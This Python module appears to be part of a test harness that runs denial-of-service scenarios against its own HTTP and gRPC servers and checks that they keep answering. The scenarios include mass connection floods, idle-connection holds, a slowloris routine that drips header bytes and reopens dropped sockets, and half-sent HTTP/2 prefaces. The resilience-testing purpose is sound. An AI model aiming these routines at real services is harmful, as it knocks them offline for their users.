"""Thousands of connections that send nothing or send very slowly."""

import selectors
import time

from . import http2
from .arena import attack
from .net import ATTACKER, anywhere, connect
from .server import grpc_answers, http_answers


def hold(port, count, source=None, first=b""):
    """Open `count` connections; return the accepted ones. `source`: their common address; None: a different address each."""
    held = []
    for i in range(count):
        try:
            sock = connect(port, source or anywhere(i), timeout=1.0)
            if first:
                sock.sendall(first)
            held.append(sock)
        except OSError:
            pass
    return held


def still_open(socks):
    """The number of sockets that the server has not closed."""
    with selectors.DefaultSelector() as selector:
        for sock in socks:
            sock.setblocking(False)
            selector.register(sock, selectors.EVENT_READ)
        closed = 0
        for key, _ in selector.select(0):
            try:
                while key.fileobj.recv(65536):
                    pass
                closed += 1
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
    return len(socks) - closed


def hold_and_probe(arena, port, count, source, first=b"", probes=(http_answers, grpc_answers), held_for=4.0):
    """Run the probes from another address while the connections are held. The arena probes again after they are closed."""
    began = time.monotonic()
    held = hold(port, count, source, first)
    arena.note(f"{len(held)} of {count} connected in {time.monotonic() - began:.1f} s")
    time.sleep(held_for)
    for probe in probes:
        holds, what = probe(arena.ports)
        arena.check(holds, f"while held: {what}")
    arena.note(f"{still_open(held)} still open after {held_for:g} s")
    for sock in held:
        sock.close()
    time.sleep(1)


@attack("grpc-connects", seconds=10)
def grpc_connects(arena):
    """1,100 connections to the gRPC port from one address, held, then closed."""
    hold_and_probe(arena, arena.ports.grpc, 1100, ATTACKER)


@attack("grpc-connects-everywhere", seconds=12)
def grpc_connects_everywhere(arena):
    """1,100 connections to the gRPC port from different addresses, held, then closed."""
    hold_and_probe(arena, arena.ports.grpc, 1100, None)


@attack("http-connects", seconds=10)
def http_connects(arena):
    """1,100 connections to the HTTP port from one address, held, then closed."""
    hold_and_probe(arena, arena.ports.http, 1100, ATTACKER)


@attack("http-idle-everywhere", seconds=12)
def http_idle_everywhere(arena):
    """1,000 idle connections to the HTTP port from different addresses. A probe must still be able to connect."""
    hold_and_probe(arena, arena.ports.http, 1000, None)


@attack("http-idle-after-request", seconds=12)
def http_idle_after_request(arena):
    """1,000 connections that send one request and then stay open, like browsers."""
    hold_and_probe(arena, arena.ports.http, 1000, ATTACKER, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")


@attack("slowloris", seconds=14)
def slowloris(arena):
    """900 HTTP requests that send their headers at one byte per 0.5 s. The attacker reopens closed connections."""
    held = hold(arena.ports.http, 900, ATTACKER, b"GET / HTTP/1.1\r\n")
    until, closed = time.monotonic() + 11, 0
    while time.monotonic() < until:
        for i, sock in enumerate(held):
            try:
                sock.sendall(b"x")
            except OSError:
                closed += 1
                sock.close()
                held[i:i + 1] = hold(arena.ports.http, 1, ATTACKER, b"GET / HTTP/1.1\r\n") or [sock]
        time.sleep(0.5)
    holds, what = http_answers(arena.ports)
    arena.check(holds, f"during the slow requests: {what}; {closed} connections were closed and reopened")


@attack("half-preface", seconds=12)
def half_preface(arena):
    """1,000 gRPC connections that send half of the HTTP/2 preface and stop."""
    hold_and_probe(arena, arena.ports.grpc, 1000, ATTACKER, http2.PREFACE[:11], held_for=6)


@attack("preface-and-silence", seconds=12)
def preface_and_silence(arena):
    """1,000 gRPC connections that send the preface and then no calls."""
    hold_and_probe(arena, arena.ports.grpc, 1000, ATTACKER, http2.PREFACE + http2.settings(), held_for=6)
